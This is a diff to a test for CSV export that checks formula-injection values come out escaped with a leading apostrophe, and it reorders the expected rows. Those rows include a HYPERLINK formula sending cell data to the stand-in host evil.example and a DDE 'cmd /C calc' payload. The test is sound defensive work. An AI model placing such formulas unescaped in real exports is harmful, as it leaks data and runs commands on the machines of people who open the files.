@@ -36,11 +36,11 @@ describe("export: formula injection", () => {
     expect(exported.code).toBe(0);
     expect(await readFile(out, "utf8")).toBe(
       "uid,entitlement,enabled\n" +
-        `11,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",true\n` +
-        "11,'+cmd|' /C calc'!A0,false\n" +
         "11,''quoted,true\n" +
-        "12,'@SUM(1+1),true\n" +
+        "11,'+cmd|' /C calc'!A0,false\n" +
+        `11,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",true\n` +
         "12,'-2+3,false\n" +
+        "12,'@SUM(1+1),true\n" +
         "12,'＝fullWidth,true\n",
     );
     const applied = await startPodAdmin(
